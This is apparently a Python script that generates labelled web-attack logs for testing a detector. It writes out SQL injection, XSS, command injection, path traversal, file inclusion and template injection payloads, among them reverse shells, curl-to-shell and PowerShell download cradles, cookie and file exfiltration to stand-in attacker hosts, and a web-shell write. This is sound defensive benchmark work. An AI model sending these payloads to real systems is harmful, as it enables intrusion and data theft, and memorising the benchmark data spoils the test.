#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, benign.log, benign.labels and requests.tsv of
# tests/bench/data/thirdparty8 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
# Generic web-attack techniques only (no product/CVE paths), one request per source.
import base64, datetime, os, random, urllib.parse

OUT = os.path.dirname(os.path.abspath(__file__))
SEED = 20251211
DAY = datetime.datetime(2025, 12, 11, 0, 0, 0)

# ----------------------------------------------------------------- user agents
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'chw2': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw2', 'chm', 'chl', 'ffw', 'ffl', 'ffm', 'sfm', 'edg', 'ios', 'and']
TOOL = {
 'sqlmap': "sqlmap/1.9.11#stable (https://sqlmap.org)",
 'commix': "commix/v4.0-stable (https://commixproject.com)",
 'curl': "curl/8.11.1",
 'py': "python-requests/2.32.5",
 'go': "Go-http-client/1.1",
 'ffuf': "Fuzz Faster U Fool v2.1.0-dev",
 'wfuzz': "Wfuzz/3.1.0",
 'nikto': "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000572)",
}

def b64(s):
    return base64.b64encode(s.encode()).decode()

def q(s):
    """percent-encode everything but unreserved characters (client-library style)"""
    return urllib.parse.quote(s, safe='')

def u(s):
    """encode as sqlmap / most scanners do: spaces and a few specials, keep ' ( ) , = etc."""
    return urllib.parse.quote(s, safe="'()*,=!:;@$/?~-._")

# Callback hosts and attacker addresses: *.example names and 198.18.0.0/15.
CB = ['oob-3kq7z.attacker.example', 'd9x2.callback.example', 'p4wn.evil.example', 'r7t1.oast.example']

PATT = 'PayloadsAllTheThings'
E = []

def T(cat, label, target, status, source, ua=None, ref=None, method='GET'):
    E.append(dict(cat=cat, label=label, method=method, target=target, status=status, source=source, ua=ua, ref=ref))

# ================================================================= SQL injection
S = PATT + ' SQL Injection'
# boolean / classic
T('sqli', 'boolean-quote-or', "/product?id=12'%20OR%20'1'='1", 200, S + ' (authentication bypass list)')
T('sqli', 'boolean-or-comment', "/login?user=admin'--%20-&pass=x", 200, S + ' MySQL (comment after quote)')
T('sqli', 'boolean-paren-or', "/api/v1/items?sort=name')%20OR%20('a'='a", 200, S + ' (parenthesis balancing)')
T('sqli', 'order-by-probe', '/products?category=5%20ORDER%20BY%2011--', 500, S + ' (column count via ORDER BY)')
T('sqli', 'boolean-rlike', '/page?id=2%20RLIKE%20(SELECT%20(CASE%20WHEN%20(4346=4346)%20THEN%202%20ELSE%200x28%20END))', 200, 'sqlmap boolean-based blind (MySQL RLIKE)')
T('sqli', 'boolean-xor', "/search?q=test'XOR(if(now()=sysdate(),sleep(0),0))XOR'Z", 200, 'Acunetix/bug-bounty XOR polyglot (MySQL)')
# error-based per DBMS
T('sqli', 'error-mysql-extractvalue', "/product?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,(SELECT%20user()),0x7e))", 500, S + ' MySQL error-based (EXTRACTVALUE)')
T('sqli', 'error-mysql-updatexml', "/index.php?id=1'%20and%20updatexml(null,concat(0x0a,version()),null)--%20-", 500, S + ' MySQL error-based (UPDATEXML)')
T('sqli', 'error-mssql-convert', "/Default.aspx?id=1%20AND%201=CONVERT(int,@@version)", 500, S + ' MSSQL error-based (CONVERT)')
T('sqli', 'error-postgres-cast', "/api/v1/users?id=1%20AND%201=CAST((SELECT%20version())%20AS%20int)", 500, S + ' PostgreSQL error-based (CAST)')
T('sqli', 'error-oracle-ctxsys', "/view?id=1%20AND%201=CTXSYS.DRITHSX.SN(1,(SELECT%20banner%20FROM%20v$version%20WHERE%20rownum=1))", 500, S + ' Oracle error-based (CTXSYS.DRITHSX.SN)')
T('sqli', 'error-oracle-utl-inaddr', "/item?id=1'||UTL_INADDR.GET_HOST_NAME((SELECT%20user%20FROM%20DUAL))||'", 500, S + ' Oracle error-based (UTL_INADDR)')
T('sqli', 'error-sqlite-load-extension', "/api/v1/notes?id=1%20AND%20load_extension('x')", 500, S + ' SQLite')
# time-based
T('sqli', 'time-mysql-sleep', "/product?id=12'%20AND%20SLEEP(5)%20AND%20'x'='x", 200, S + ' MySQL time-based (SLEEP)')
T('sqli', 'time-mysql-benchmark', '/search?q=1%20AND%20BENCHMARK(5000000,MD5(1))', 200, S + ' MySQL time-based (BENCHMARK)')
T('sqli', 'time-mysql-subselect', "/page?lang=en'%2B(select*from(select(sleep(20)))a)%2B'", 200, 'bug-bounty polyglot (select*from(select(sleep(20)))a)')
T('sqli', 'time-mssql-waitfor', "/Default.aspx?id=1;WAITFOR%20DELAY%20'0:0:5'--", 200, S + ' MSSQL time-based (WAITFOR DELAY)')
T('sqli', 'time-postgres-pg-sleep', "/api/v1/items?id=1;SELECT%20pg_sleep(10)--", 200, S + ' PostgreSQL time-based (pg_sleep)')
T('sqli', 'time-oracle-dbms-pipe', "/item?id=1%20AND%201=DBMS_PIPE.RECEIVE_MESSAGE(CHR(88),5)", 200, S + ' Oracle time-based (DBMS_PIPE)')
T('sqli', 'time-sqlite-randomblob', "/search?q=x'%20AND%201=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--", 200, S + ' SQLite heavy query')
# UNION
T('sqli', 'union-null-columns', '/product?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-', 200, S + ' (UNION NULL probe)')
T('sqli', 'union-information-schema', "/item.php?id=-5'%20UNION%20SELECT%201,group_concat(table_name),3%20FROM%20information_schema.tables%20WHERE%20table_schema=database()--%20-", 200, S + ' MySQL (UNION information_schema)')
T('sqli', 'union-concat-marker', '/news?id=31%20UNION%20ALL%20SELECT%20CONCAT(0x71786a7671,0x4b7a,0x7170767a71),NULL,NULL--%20-', 200, 'sqlmap UNION query (marker strings)')
# stacked / out of band
T('sqli', 'stacked-mssql-xp-cmdshell', "/Default.aspx?id=1;EXEC%20master..xp_cmdshell%20'ping%20198.18.3.3'--", 500, S + ' MSSQL stacked (xp_cmdshell)')
T('sqli', 'oob-mssql-xp-dirtree', "/page.aspx?id=1;EXEC%20master..xp_dirtree%20'%5C%5C" + CB[0] + "%5Ca'--", 200, S + ' MSSQL out-of-band (xp_dirtree)')
T('sqli', 'oob-mysql-load-file-unc', "/product?id=1%20AND%20LOAD_FILE(CONCAT('%5C%5C%5C%5C',(SELECT%20password%20FROM%20mysql.user%20LIMIT%201),'." + CB[1] + "%5C%5Cabc'))", 200, S + ' MySQL out-of-band (LOAD_FILE UNC)')
T('sqli', 'oob-oracle-utl-http', "/item?id=1%20AND%20UTL_HTTP.REQUEST('http://" + CB[2] + "/'||(SELECT%20user%20FROM%20dual))=1", 500, S + ' Oracle out-of-band (UTL_HTTP)')
T('sqli', 'oob-postgres-copy-program', "/api/v1/items?id=1;COPY%20(SELECT%20'')%20TO%20PROGRAM%20'nslookup%20" + CB[3] + "'--", 200, S + ' PostgreSQL COPY TO PROGRAM')
T('sqli', 'into-outfile-webshell', "/product?id=-1%20UNION%20SELECT%201,'%3C?php%20system($_GET[c]);?%3E',3%20INTO%20OUTFILE%20'/var/www/html/s.php'--%20-", 200, S + ' MySQL INTO OUTFILE')
# JSON / NoSQL
T('sqli', 'nosql-gt-operator', '/api/v1/users?username[$gt]=&password[$gt]=', 200, PATT + ' NoSQL Injection ($gt)')
T('sqli', 'nosql-regex-operator', '/api/v1/login?user=admin&pass[$regex]=%5Ea.*', 200, PATT + ' NoSQL Injection ($regex extraction)')
T('sqli', 'nosql-where-sleep', "/api/v1/items?filter=%7B%22$where%22:%22sleep(5000)%22%7D", 200, PATT + ' NoSQL Injection ($where JavaScript)')
T('sqli', 'json-sqli-mysql-json-extract', "/api/v1/items?id=1%20AND%20JSON_EXTRACT('%7B%22a%22:1%7D','$.a')=1%20UNION%20SELECT%20@@version--", 200, 'Claroty "{JS-ON: Security-OFF}" WAF bypass (JSON operators in SQL)')
T('sqli', 'json-sqli-postgres-operator', "/api/v1/search?q=1'%20OR%20'%7B%22b%22:2%7D'::jsonb%20@%3E%20'%7B%22b%22:2%7D'::jsonb--", 200, 'Claroty JSON-based SQL WAF bypass (PostgreSQL @>)')
T('sqli', 'second-order-username', "/account/settings?display_name=admin'%20--%20", 200, S + ' (second-order value stored for later use)')
# sqlmap tamper outputs
TM = 'sqlmap tamper %s'
T('sqli', 'tamper-space2comment', '/product?id=1/**/UNION/**/ALL/**/SELECT/**/NULL,CONCAT(0x7176,user()),NULL--/**/-', 200, TM % 'space2comment')
T('sqli', 'tamper-charencode', '/index.php?id=' + ''.join('%%%02X' % ord(c) for c in '1 AND 1=1 UNION SELECT 1,2'), 200, TM % 'charencode')
T('sqli', 'tamper-chardoubleencode', '/item?id=' + ''.join('%%25%02X' % ord(c) for c in "1' AND SLEEP(5)#"), 200, TM % 'chardoubleencode')
T('sqli', 'tamper-charunicodeencode', '/Default.aspx?id=' + ''.join('%%u00%02X' % ord(c) for c in '1 AND 1=1--'), 200, TM % 'charunicodeencode (ASP/ASP.NET)')
T('sqli', 'tamper-between', '/view?id=1%20AND%20A%20NOT%20BETWEEN%200%20AND%20B--%20and%201%20BETWEEN%201%20AND%201', 200, TM % 'between')
T('sqli', 'tamper-randomcase', '/products?cat=2%20UnIoN%20aLL%20SeLeCt%20nULl,vErSiOn(),NuLl--', 200, TM % 'randomcase')
T('sqli', 'tamper-versionedkeywords', '/news?id=1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!CONCAT*/(0x71,/*!USER*/()),/*!NULL*/#', 200, TM % 'versionedkeywords')
T('sqli', 'tamper-halfversionedmorekeywords', "/item?id=1'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,121,58)),/*!0NULL%23", 200, TM % 'halfversionedmorekeywords')
T('sqli', 'tamper-modsecurityzeroversioned', '/page?id=1%20/*!00000AND%202%3E1*/--', 200, TM % 'modsecurityzeroversioned')
T('sqli', 'tamper-percentage', '/default.asp?id=1%20%S%E%L%E%C%T%20%F%I%E%L%D%20%F%R%O%M%20%T%A%B%L%E', 500, TM % 'percentage (ASP)')
T('sqli', 'tamper-equaltolike', "/search?q=x'%20OR%20username%20LIKE%20'admin'--%20-", 200, TM % 'equaltolike')
T('sqli', 'tamper-apostrophenullencode', '/product?id=1%00%27%20AND%201=1--%20-', 200, TM % 'apostrophenullencode')
T('sqli', 'tamper-apostrophemask', '/product?name=shoe%EF%BC%87%20OR%201=1--%20-', 200, TM % 'apostrophemask (fullwidth apostrophe)')
T('sqli', 'tamper-unmagicquotes', '/index.php?id=1%BF%27%20AND%201=1--%20', 200, TM % 'unmagicquotes (GBK %BF%27)')
T('sqli', 'tamper-space2randomblank', '/item?id=1%0DAND%091=1%0CUNION%0ASELECT%0D1,2', 200, TM % 'space2randomblank')
T('sqli', 'tamper-space2hash', '/view?id=1%23nVNaVoPYeva%0AAND%23ngNvzqu%0A1=1', 200, TM % 'space2hash (MySQL)')
T('sqli', 'tamper-symboliclogical', "/search?q=1%20%26%26%201=1%20%7C%7C%20'a'='a", 200, TM % 'symboliclogical')
T('sqli', 'tamper-base64encode', '/api/v1/items?id=' + q(b64("1' AND SLEEP(5)-- -")), 200, TM % 'base64encode')
T('sqli', 'sqlmap-tool-ua', '/index.php?id=1%20AND%208376=8376', 200, 'sqlmap boolean-based blind (default User-Agent)', ua=TOOL['sqlmap'])
T('sqli', 'sqli-in-user-agent', '/', 200, 'User-Agent header SQL injection (sqlmap --level 3 / Burp scanner)', ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)' AND (SELECT 5921 FROM (SELECT(SLEEP(5)))xYzq)-- ZmTb")
T('sqli', 'sqli-in-referer', '/index.php', 200, 'Referer header SQL injection (sqlmap --level 3)', ref="https://www.google.com/' AND 1=CONVERT(int,(SELECT @@version))--")

# ================================================================= XSS
X = PATT + ' XSS Injection'
T('xss', 'script-basic', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200, X)
T('xss', 'script-raw-unencoded', '/?s=<script>alert(document.domain)</script>', 200, X + ' (raw, as curl sends)', ua=TOOL['curl'])
T('xss', 'img-onerror', '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E', 200, X + ' (attribute breakout)')
T('xss', 'svg-onload', '/product?name=%3Csvg%20onload=alert%281%29%3E', 200, X + ' (SVG onload)')
T('xss', 'svg-slash-separator', '/comment?text=%3Csvg/onload=prompt(document.cookie)//', 200, 'PortSwigger XSS cheat sheet (slash as separator)')
T('xss', 'iframe-srcdoc', '/view?msg=%3Ciframe%20srcdoc=%22%26lt;script%26gt;alert(1)%26lt;/script%26gt;%22%3E', 200, 'PortSwigger XSS cheat sheet (iframe srcdoc entities)')
T('xss', 'input-autofocus-onfocus', '/search?q=%22%20autofocus%20onfocus=alert(1)%20x=%22', 200, X + ' (attribute injection, no tags)')
T('xss', 'details-ontoggle', '/blog?tag=%3Cdetails%20open%20ontoggle=confirm(1)%3E', 200, 'PortSwigger XSS cheat sheet (ontoggle)')
T('xss', 'video-source-onerror', '/watch?v=%3Cvideo%3E%3Csource%20onerror=%22javascript:alert(1)%22%3E', 200, X)
T('xss', 'a-javascript-uri', '/redirect?url=javascript:alert(document.cookie)', 200, X + ' (javascript: URI)')
T('xss', 'javascript-uri-encoded-colon', '/link?href=javascript%26colon;alert(1)', 200, 'OWASP XSS Filter Evasion Cheat Sheet (&colon; entity)')
T('xss', 'javascript-uri-newline', '/go?next=java%0d%0ascript%0d%0a:alert(0)', 302, PATT + ' Open Redirect / XSS (CRLF inside javascript:)')
T('xss', 'data-uri-html-b64', '/preview?src=data:text/html;base64,' + b64('<script>alert(1)</script>'), 200, X + ' (data: URI)')
T('xss', 'mathml-xlink', '/search?q=%3Cmath%3E%3Cmaction%20actiontype=statusline%20xlink:href=javascript:alert(1)%3Eclick', 200, 'PortSwigger XSS cheat sheet (MathML maction)')
T('xss', 'svg-animate-href', '/page?x=%3Csvg%3E%3Ca%3E%3Canimate%20attributeName=href%20values=javascript:alert(1)%20/%3E%3Ctext%20x=20%20y=20%3EClick%3C/text%3E%3C/a%3E', 200, 'PortSwigger XSS cheat sheet (SVG animate)')
T('xss', 'polyglot-0xsobky', "/search?q=jaVasCript:/*-/*%60/*%5C%60/*'/*%22/**/(/*%20*/oNcliCk=alert()%20)//%250D%250A%250d%250a//%3C/stYle/%3C/titLe/%3C/teXtarEa/%3C/scRipt/--!%3E%5Cx3csVg/%3CsVg/oNloAd=alert()//%3E%5Cx3e", 200, '0xsobky Ultimate XSS polyglot')
T('xss', 'polyglot-quotes-script', "/?q=%27%22%3E%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E", 200, X + ' (context-breaking polyglot)')
T('xss', 'double-encoded-img', '/search?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E', 200, X + ' (double URL encoding)')
T('xss', 'decimal-entities', '/comment?body=%3Ca%20href=%22%26%23106;%26%2397;%26%23118;%26%2397;%26%23115;%26%2399;%26%23114;%26%23105;%26%23112;%26%23116;%26%2358;alert(1)%22%3Ex%3C/a%3E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (decimal entities)')
T('xss', 'js-unicode-escape', '/search?q=%3Cscript%3E%5Cu0061lert(1)%3C/script%3E', 200, 'PortSwigger XSS cheat sheet (unicode escapes in identifiers)')
T('xss', 'js-context-breakout', "/page?name=%27;alert(String.fromCharCode(88,83,83))//", 200, X + ' (inside a JS string, fromCharCode)')
T('xss', 'js-context-template-literal', '/page?ref=%24%7Balert(1)%7D', 200, X + ' (template literal ${})')
T('xss', 'dom-location-hash-sink', '/app?returnUrl=javascript:eval(location.hash.slice(1))', 200, 'DOM XSS sink (PortSwigger DOM-based XSS labs)')
T('xss', 'dom-innerhtml-param', '/search?q=%3Cimg%20src=1%20onerror=document.body.innerHTML=document.cookie%3E', 200, 'DOM innerHTML sink (PortSwigger Web Security Academy)')
T('xss', 'angular-csti', '/search?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D', 200, 'AngularJS sandbox escape (PortSwigger client-side template injection)')
T('xss', 'vue-csti', '/?q=%7B%7B_c.constructor(%27alert(1)%27)()%7D%7D', 200, 'Vue.js template injection (PortSwigger XSS cheat sheet)')
T('xss', 'xss-fetch-exfil', "/search?q=%3Cscript%3Efetch('https://" + CB[0] + "/?c='%2Bdocument.cookie)%3C/script%3E", 200, 'cookie exfiltration via fetch (XSS Hunter style)')
T('xss', 'script-src-remote', '/guestbook?name=%3Cscript%20src=//' + CB[1] + '/x.js%3E%3C/script%3E', 200, 'XSStrike / XSS Hunter remote script payload')
T('xss', 'xsstrike-d3v', '/search?q=%3Cd3v%20onmouseover%3D%28confirm%29%28%29%3Ev3dm0s', 200, 'XSStrike generated payload (d3v/v3dm0s markers)')
T('xss', 'xss-tab-newline-handler', '/search?q=%3Cimg%09src=x%0Aonerror%0D=alert(1)%3E', 200, 'OWASP XSS Filter Evasion Cheat Sheet (whitespace variants)')
T('xss', 'xss-style-expression', '/profile?color=red;background:url(javascript:alert(1))', 200, 'OWASP XSS Filter Evasion Cheat Sheet (CSS url javascript:)')
T('xss', 'xss-utf7', '/search?q=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-', 200, 'UTF-7 XSS (OWASP evasion notes)')
T('xss', 'xss-in-path', '/%3Cscript%3Ealert(1)%3C/script%3E', 404, 'XSS in the path (404 page reflection, nuclei fuzzing)')
T('xss', 'xss-user-agent', '/contact', 200, 'User-Agent XSS (log viewer / admin panel blind XSS)', ua='<script src=https://' + CB[2] + '/b.js></script>')
T('xss', 'xss-referer-img', '/about', 200, 'Referer blind XSS', ref='https://www.bing.com/"><img src=x onerror=alert(document.domain)>')
T('xss', 'xss-hpp-split', '/search?q=%3Cscript&q=%3Ealert(1)%3C/script%3E', 200, 'HTTP parameter pollution XSS split (Luca Carettoni / Stefano di Paola HPP)')

# ================================================================= OS command injection
C = PATT + ' Command Injection'
T('cmdi', 'semicolon-id', '/ping?host=127.0.0.1;id', 200, C)
T('cmdi', 'pipe-cat-passwd', '/tools/lookup?domain=example.com%7Ccat%20/etc/passwd', 200, C + ' (pipe)')
T('cmdi', 'and-and-whoami', '/api/v1/diag?target=8.8.8.8%26%26whoami', 200, C + ' (&&)')
T('cmdi', 'dollar-paren', '/index.php?cmd=$(id)', 200, C + ' ($() substitution)')
T('cmdi', 'backtick-sleep', '/ping?host=1.1.1.1%60sleep%2010%60', 200, C + ' (blind, backticks)')
T('cmdi', 'ifs-cat', '/ping?host=127.0.0.1;cat${IFS}/etc/passwd', 200, C + ' (${IFS})')
T('cmdi', 'brace-expansion', '/ping?host=127.0.0.1;%7Bcat,/etc/passwd%7D', 200, C + ' (brace expansion)')
T('cmdi', 'quote-splitting', "/tools?host=;w'h'o'am'i", 200, C + " (quote splitting)")
T('cmdi', 'wildcard-path', '/exec?arg=;/???/??t%20/???/p??s??', 200, C + ' (glob wildcards /???/??t)')
T('cmdi', 'newline-separator', '/api/v1/ping?addr=127.0.0.1%0Aid%0A', 200, C + ' (%0A)')
T('cmdi', 'blind-sleep-semicolon', '/contact?email=a@b.example;sleep%2015;', 200, 'commix time-based technique', ua=TOOL['commix'])
T('cmdi', 'blind-ping-count', '/status?host=%7Cping%20-c%2021%20127.0.0.1%7C%7C', 200, 'OWASP Testing Guide WSTG-INPV-12 (blind ping delay)')
T('cmdi', 'oob-nslookup-whoami', '/api/v1/webhook?name=x;nslookup%20%60whoami%60.' + CB[3], 200, C + ' (DNS exfiltration)')
T('cmdi', 'oob-curl-pipe-sh', '/ping?ip=127.0.0.1%7Ccurl%20-s%20http://198.18.20.4/s.sh%7Csh', 200, 'honeypot dropper shape (curl | sh)')
T('cmdi', 'oob-wget-post-file', '/diag?host=x%3Bwget%20--post-file=/etc/passwd%20http://' + CB[0] + '/', 200, C + ' (wget exfiltration)')
T('cmdi', 'base64-decode-bash', '/run?cmd=echo%20' + b64('id;uname -a') + '%7Cbase64%20-d%7Cbash', 200, C + ' (base64 | bash)')
T('cmdi', 'rev-bash-tcp', '/ping?host=;bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/198.18.22.7/4444%200%3E%261%27', 200, 'PayloadsAllTheThings Reverse Shell Cheatsheet (bash /dev/tcp)')
T('cmdi', 'python-reverse', "/debug?expr=;python3%20-c%20'import%20socket,os,pty;s=socket.socket();s.connect((%22198.18.22.9%22,4242));[os.dup2(s.fileno(),f)for%20f%20in(0,1,2)];pty.spawn(%22/bin/sh%22)'", 200, 'Reverse Shell Cheatsheet (python pty)')
T('cmdi', 'win-amp-whoami', '/Default.aspx?host=127.0.0.1%26whoami', 200, C + ' Windows (&)')
T('cmdi', 'win-type-win-ini', '/api/v1/print?file=x%7Ctype%20C:%5CWindows%5Cwin.ini', 200, C + ' Windows (type)')
T('cmdi', 'win-caret-obfuscation', '/tools?h=%7Cw^h^o^a^m^i', 200, 'Daniel Bohannon Invoke-DOSfuscation (caret escapes)')
T('cmdi', 'win-powershell-iwr', '/ping.aspx?ip=127.0.0.1%7Cpowershell%20-c%20%22iwr%20http://198.18.23.1/p.ps1%20-UseBasicParsing%7Ciex%22', 200, 'PowerShell download cradle (MITRE T1059.001)')
T('cmdi', 'win-certutil', '/api/exec?c=%26certutil%20-urlcache%20-split%20-f%20http://198.18.23.2/a.exe%20%25TEMP%25%5Ca.exe', 200, 'LOLBAS certutil download')
T('cmdi', 'php-system-eval', '/index.php?code=system(%27id%27);', 200, PATT + ' (PHP code injection)')
T('cmdi', 'php-assert-eval', "/index.php?page=%27.system(%27ls%27).%27", 200, 'PHP code injection into include/assert string (OWASP)')
T('cmdi', 'node-child-process', "/api/v1/calc?expr=require('child_process').execSync('id').toString()", 500, 'Node.js code injection (eval of expr)')
T('cmdi', 'python-eval-import', "/calc?x=__import__('os').popen('id').read()", 500, 'Python eval injection')
T('cmdi', 'shellshock-user-agent', '/cgi-bin/test.cgi', 404, 'Shellshock (CVE-2014-6271) in the User-Agent (generic CGI)', ua='() { :;}; echo; /bin/bash -c "cat /etc/passwd"')
T('cmdi', 'shellshock-referer', '/cgi-bin/status', 404, 'Shellshock in the Referer', ref='() { ignored; }; /bin/sleep 9')

# ================================================================= path traversal / LFI / RFI
L = PATT + ' Directory Traversal'
F = PATT + ' File Inclusion'
T('lfi', 'dotdot-plain', '/download?file=../../../../etc/passwd', 200, L)
T('lfi', 'dotdot-encoded', '/image?name=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', 200, L + ' (URL encoding)')
T('lfi', 'dotdot-slash-encoded-only', '/file?path=..%2f..%2f..%2f..%2fetc%2fshadow', 200, L + ' (encoded slash)')
T('lfi', 'dotdot-double-encoded', '/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd', 200, L + ' (double encoding)')
T('lfi', 'dotdot-overlong-c0af', '/file?name=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd', 200, L + ' (overlong UTF-8 %c0%af)')
T('lfi', 'dotdot-overlong-dots', '/get?doc=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 200, L + ' (overlong UTF-8 dots)')
T('lfi', 'dotdot-16bit-unicode', '/file?path=..%u2216..%u2216..%u2216windows%u2216win.ini', 200, L + ' (16-bit Unicode %u2216)')
T('lfi', 'dotdot-filter-bypass', '/index.php?page=....//....//....//....//etc/passwd', 200, F + ' (....// filter bypass)')
T('lfi', 'dotdot-backslash-dup', '/index.php?page=..././..././..././etc/passwd', 200, F + ' (..././)')
T('lfi', 'dotdot-windows', '/download.aspx?file=..%5C..%5C..%5C..%5Cwindows%5Csystem32%5Cdrivers%5Cetc%5Chosts', 200, L + ' (Windows backslash)')
T('lfi', 'dotdot-windows-boot-ini', '/read?f=..\\..\\..\\..\\boot.ini', 200, 'dotdotpwn (boot.ini)')
T('lfi', 'null-byte', '/index.php?lang=../../../../etc/passwd%00', 200, F + ' (NUL byte truncation)')
T('lfi', 'path-truncation', '/index.php?page=../../../etc/passwd' + '/.' * 120, 200, F + ' (path truncation)')
T('lfi', 'proc-self-environ', '/index.php?page=../../../../proc/self/environ', 200, F + ' (/proc/self/environ)')
T('lfi', 'log-poisoning-include', '/index.php?page=/var/log/nginx/access.log&c=id', 200, F + ' (log poisoning)')
T('lfi', 'php-filter-b64', '/index.php?page=php://filter/convert.base64-encode/resource=index', 200, F + ' (php://filter)')
T('lfi', 'php-filter-rot13-upper', '/index.php?file=pHp://FilTer/read=string.rot13/resource=config.php', 200, F + ' (php://filter, mixed case)')
T('lfi', 'php-filter-chain', '/index.php?page=php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.UTF8.UTF16|convert.base64-decode/resource=php://temp', 200, 'Synacktiv php_filter_chain_generator')
T('lfi', 'data-wrapper', '/index.php?page=data:text/plain,%3C?php%20phpinfo();%20?%3E', 200, F + ' (data: wrapper)')
T('lfi', 'expect-wrapper', '/index.php?page=expect://id', 200, F + ' (expect://)')
T('lfi', 'zip-wrapper', '/index.php?page=zip://uploads/avatar.jpg%23shell', 200, F + ' (zip://)')
T('lfi', 'file-wrapper', '/render?tpl=file:///etc/passwd', 200, F + ' (file://)')
T('lfi', 'rfi-http', '/index.php?page=http://198.18.24.5/shell.txt', 200, F + ' (RFI)')
T('lfi', 'rfi-encoded-null', '/index.php?inc=http%3A%2F%2F198.18.24.6%2Fc99.txt%3F', 200, F + ' (RFI, encoded, trailing ?)')
T('lfi', 'rfi-smb-unc', '/index.php?page=%5C%5C198.18.24.7%5Cshare%5Cshell.php', 200, F + ' (RFI over SMB)')
T('lfi', 'web-inf', '/download?file=../WEB-INF/web.xml', 200, L + ' (Java WEB-INF)')
T('lfi', 'ssh-key', '/api/v1/attachment?name=../../../../root/.ssh/id_rsa', 200, L + ' (private key)')
T('lfi', 'dotdot-in-path-semicolon', '/static/..;/..;/WEB-INF/web.xml', 404, 'Orange Tsai "Breaking Parser Logic" (..;/)')
T('lfi', 'dotdot-ffuf', '/download?file=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd', 200, 'ffuf LFI wordlist (SecLists LFI-Jhaddix)', ua=TOOL['ffuf'])

# ================================================================= SSTI
ST = PATT + ' Server Side Template Injection'
T('ssti', 'probe-7x7', '/hello?name=%7B%7B7*7%7D%7D', 200, ST + ' (detection)')
T('ssti', 'probe-polyglot', '/?name=$%7B%7B%3C%25%5B%25%27%22%7D%7D%25%5C.', 500, 'Hackmanit Template Injection Table / tplmap polyglot')
T('ssti', 'jinja2-config', '/profile?name=%7B%7Bconfig.items()%7D%7D', 200, ST + ' Jinja2 (config)')
T('ssti', 'jinja2-cycler', "/greet?user={{cycler.__init__.__globals__.os.popen('id').read()}}", 200, ST + ' Jinja2 (cycler globals)')
T('ssti', 'jinja2-mro-subclasses', "/page?msg=" + q("{{''.__class__.__mro__[1].__subclasses__()}}"), 200, ST + ' Jinja2 (MRO subclasses)')
T('ssti', 'jinja2-attr-filter', "/search?q=" + q("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"), 200, ST + ' Jinja2 (attr filter, hex escapes)')
T('ssti', 'twig-filter-system', "/?template=" + q("{{['id']|filter('system')}}"), 200, ST + ' Twig (filter system)')
T('ssti', 'twig-map-passthru', "/email/preview?subject=" + q("{{['cat /etc/passwd']|map('passthru')|join}}"), 200, ST + ' Twig (map passthru)')
T('ssti', 'freemarker-execute', '/report?title=' + q('${"freemarker.template.utility.Execute"?new()("id")}'), 200, ST + ' FreeMarker')
T('ssti', 'velocity-class', '/view?tpl=' + q('#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'), 200, ST + ' Velocity')
